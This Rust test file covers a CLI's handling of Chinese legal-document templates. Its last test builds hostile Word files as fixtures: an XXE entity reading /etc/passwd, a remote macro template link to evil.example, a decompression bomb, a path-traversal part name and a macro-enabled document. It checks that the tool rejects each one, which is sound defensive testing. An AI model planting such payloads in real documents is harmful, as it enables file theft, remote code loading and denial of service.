//! `sucheng template`.

use sucheng::papers::Package;

use super::{ends, shows};
use crate::support::Room;

#[test]
fn lists_and_shows() {
    let room = Room::workspace();
    let answer = room.json(&["template", "list"]);
    let kinds = answer["templates"].as_array().unwrap();
    let complaint = kinds.iter().find(|t| t["kind"] == "complaint").unwrap();
    assert_eq!(complaint["title"], "民事起诉状");
    assert_eq!(complaint["origin"], "built-in");
    let fields = ends(&room, 0, &["template", "show", "complaint", "--fields"]).stdout;
    assert!(fields.lines().any(|l| l.starts_with("respondents[].id.number")), "{fields}");
    shows(&room, "template-fields", &["template", "show", "representative-certificate", "--fields"]);
    let zh = ["template", "show", "representative-certificate", "--fields", "--lang", "zh-CN"];
    shows(&room, "template-fields-zh", &zh);
    // A field that the sample lacks is shown too, with an example.
    let answer = room.json(&["template", "show", "power-of-attorney", "--fields"]);
    let field = answer["fields"].as_array().unwrap().iter().find(|f| f["field"] == "withheld").unwrap();
    assert!(field["example"].is_string() && field["meaning"]["en"].is_string() && field["type"] == "text");
    shows(&room, "template-unknown", &["template", "show", "complant"]);
}

/// A copy in the workspace takes the place of the built-in one; a built-in one is never checked unasked.
#[test]
fn a_template_is_copied_and_checked() {
    let room = Room::workspace();
    assert!(ends(&room, 0, &["template", "check"]).stderr.contains("0 template(s) checked"));
    ends(&room, 0, &["template", "new", "complaint"]);
    assert!(ends(&room, 0, &["template", "check"]).stderr.contains("1 template(s) checked, 0 problem(s)"));
    shows(&room, "template-new-twice", &["template", "new", "complaint"]);
    shows(&room, "template-new-name", &["template", "new", "../x"]);
    ends(&room, 0, &["template", "new", "our-letter", "--from", "demand-letter"]);
    let manifest = room.read("templates/cn/our-letter/manifest.yaml");
    assert!(manifest.starts_with("kind: our-letter"), "{manifest}");
    let page = room.read("templates/cn/complaint/page.typ");
    room.write("templates/cn/complaint/page.typ", format!("{page}\n#data.nothing_of_this_name\n"));
    shows(&room, "template-check-page", &["template", "check"]);
}

/// Every mistake of a Word template in one run, each with its paragraph.
#[test]
fn a_word_templates_mistakes_are_told_at_once() {
    let room = Room::workspace();
    ends(&room, 0, &["template", "new", "complaint"]);
    let paragraph = |text: &str| format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>");
    let body = [
        "原告：{{ claimant.nam }}",
        "{{ claimant.phone|yuann }}",
        "{{ date",
        "{%tr if cause %}",
        "{% for c in claims %}",
    ]
    .map(paragraph)
    .concat();
    let types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let document = format!("<w:document xmlns:w=\"w\"><w:body>{body}</w:body></w:document>");
    let mut package = Package::default();
    package.parts.insert("[Content_Types].xml".into(), types.into());
    package.parts.insert("word/document.xml".into(), document.into_bytes());
    room.write("templates/cn/complaint/body.docx", package.write().unwrap());
    shows(&room, "template-check-word", &["template", "check"]);
    shows(&room, "template-check-word-zh", &["template", "check", "complaint", "--lang", "zh-CN"]);
    // Copies with a comment at each mistake; ours are written over, a person's are not.
    let annotate = ["template", "check", "complaint", "--annotate"];
    let copy = room.path().join("out/preview/complaint.checked.docx");
    shows(&room, "template-check-annotated", &annotate);
    let first = std::fs::read(&copy).unwrap();
    ends(&room, 1, &annotate);
    assert_eq!(std::fs::read(&copy).unwrap(), first, "the same comments give the same bytes");
    let mut package = Package::open(&first).unwrap();
    assert!(package.text("word/comments.xml").unwrap().contains("did you mean claimant.name?"));
    package.parts.insert("word/mine.xml".into(), b"<a/>".to_vec());
    std::fs::write(&copy, package.write().unwrap()).unwrap();
    ends(&room, 1, &annotate);
    assert!(room.path().join("out/preview/complaint.checked-2.docx").is_file());
    let file = room.path().join("templates/cn/complaint/body.docx");
    std::fs::copy(file, room.path().join("letter.docx")).unwrap();
    let tried = room.json(&["template", "check", "letter.docx", "--annotate", "-o", "seen"]);
    assert_eq!(tried["annotated"].as_array().unwrap().len(), 1, "{tried}");
    let fields = |answer: &serde_json::Value| {
        let problems = answer["problems"].as_array().unwrap();
        problems.iter().filter(|p| p["code"] == "E-WORD-FIELD-NEAR").count()
    };
    let with_sample = room.json(&["template", "check", "letter.docx", "--as", "complaint"]);
    assert_eq!((fields(&tried), fields(&with_sample)), (0, 1));
    room.write("letter.docx", "not a Word file");
    shows(&room, "template-check-file", &["template", "check", "letter.docx"]);
}

/// The sample in each format the template has; what is wrong with one of them does not keep the others back.
#[test]
fn a_sample_is_previewed() {
    let room = Room::workspace();
    shows(&room, "template-preview", &["template", "preview", "complaint"]);
    let bytes = |name: &str| std::fs::read(room.path().join("out/preview").join(name)).unwrap();
    assert!(bytes("complaint.pdf").starts_with(b"%PDF") && bytes("complaint.docx").starts_with(b"PK"));
    let answer = room.json(&["template", "preview", "demand-email", "-o", "seen"]);
    assert_eq!(answer["written"].as_array().unwrap().len(), 2, "{answer}");
    assert!(bytes("complaint.01.png").starts_with(b"\x89PNG"));
    assert!(room.read("seen/demand-email.txt").contains("元"));
    ends(&room, 0, &["template", "new", "complaint"]);
    room.write("templates/cn/complaint/body.docx", "no ZIP");
    std::fs::remove_dir_all(room.path().join("out/preview")).unwrap();
    shows(&room, "template-preview-wrong", &["template", "preview", "complaint"]);
    assert!(bytes("complaint.pdf").starts_with(b"%PDF"));
    shows(&room, "template-preview-unknown", &["template", "preview", "complant"]);
}

/// A folder anywhere is a template too: its sample is printed where time and memory end it, with a picture of its own.
#[test]
fn a_folder_is_previewed_with_its_own_images() {
    let room = Room::workspace();
    ends(&room, 0, &["template", "new", "our-letter", "--from", "demand-letter"]);
    let from = room.path().join("templates/cn/our-letter");
    let to = room.path().join("elsewhere/our-letter");
    std::fs::create_dir_all(to.parent().unwrap()).unwrap();
    std::fs::rename(&from, &to).unwrap();
    let answer = room.json(&["template", "preview", "./elsewhere/our-letter", "-o", "seen"]);
    let formats: Vec<&str> =
        answer["written"].as_array().unwrap().iter().map(|w| w["format"].as_str().unwrap()).collect();
    assert!(formats.contains(&"pdf") && formats.contains(&"png") && formats.contains(&"docx"), "{answer}");

    // The first page of the preview serves as a picture: a whole PNG.
    std::fs::rename(&to, &from).unwrap();
    let png = std::fs::read(room.path().join("seen/our-letter.01.png")).unwrap();
    std::fs::write(from.join("seal.png"), &png).unwrap();
    let manifest = room.read("templates/cn/our-letter/manifest.yaml");
    let images = |file: &str| format!("{manifest}images:\n  seal: {{file: {file}, width: 40, alt: 公章}}\n");
    room.write("templates/cn/our-letter/manifest.yaml", images("seal.png"));
    let mut package = Package::open(&std::fs::read(from.join("body.docx")).unwrap()).unwrap();
    let text = package.text("word/document.xml").unwrap();
    let tag = "<w:p><w:r><w:t>{{ seal }}</w:t></w:r></w:p><w:sectPr";
    let at = text.rfind("<w:sectPr").unwrap();
    let text = format!("{}{tag}{}", &text[..at], &text[at + "<w:sectPr".len()..]);
    package.parts.insert("word/document.xml".into(), text.into_bytes());
    std::fs::write(from.join("body.docx"), package.write().unwrap()).unwrap();
    ends(&room, 0, &["template", "check", "our-letter"]);
    ends(&room, 0, &["template", "preview", "our-letter"]);
    let word = std::fs::read(room.path().join("out/preview/our-letter.docx")).unwrap();
    let word = Package::open(&word).unwrap();
    assert!(word.parts.iter().any(|(name, part)| name.starts_with("word/media/") && *part == png));
    // No path leads out of the folder.
    room.write("templates/cn/our-letter/manifest.yaml", images("../complaint/page.typ"));
    assert!(ends(&room, 1, &["template", "check", "our-letter"]).stdout.contains("E-TEMPLATE-NO-FILE"));
}

/// Files that would harm: each is refused by name within bounded time.
#[test]
fn hostile_word_files_are_refused_by_name() {
    let room = Room::workspace();
    let types = "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let text = |inside: &str| format!("<w:document xmlns:w=\"w\"><w:body>{inside}</w:body></w:document>");
    let loops = "<w:p><w:r><w:t>{%p for a in x %}</w:t></w:r></w:p>".repeat(10_000);
    let outside = "<Relationships><Relationship Id=\"a\" Type=\"x/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>";
    let bomb = "a".repeat(140 << 20);
    for (name, part, content, code) in [
        ("bomb", "word/x.xml", bomb.as_str(), "E-WORD-FILE"),
        ("out", "../x.xml", "<a/>", "E-WORD-FILE"),
        (
            "entity",
            "word/document.xml",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "E-WORD-XML",
        ),
        ("link", "word/_rels/document.xml.rels", outside, "E-WORD-ACTIVE"),
        ("loops", "word/document.xml", &text(&loops), "E-WORD-BLOCK"),
    ] {
        let mut package = Package::default();
        package.parts.insert("[Content_Types].xml".into(), types.into());
        package.parts.insert("word/document.xml".into(), text("").into_bytes());
        package.parts.insert(part.into(), content.into());
        let file = format!("{name}.docx");
        room.write(&file, package.write().unwrap());
        let begun = std::time::Instant::now();
        let told = ends(&room, 1, &["template", "check", &file, "--as", "complaint", "--annotate"]);
        assert!(told.stdout.contains(code), "{name}: {}", &told.stdout[..told.stdout.len().min(500)]);
        assert!(begun.elapsed().as_secs() < 60, "{name}: {:?}", begun.elapsed());
    }
    let macros = types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    );
    let mut package = Package::default();
    package.parts.insert("[Content_Types].xml".into(), macros.into_bytes());
    package.parts.insert("word/document.xml".into(), text("").into_bytes());
    room.write("letter.docm", package.write().unwrap());
    assert!(ends(&room, 1, &["template", "check", "letter.docm"]).stdout.contains("E-WORD-ACTIVE"));
}
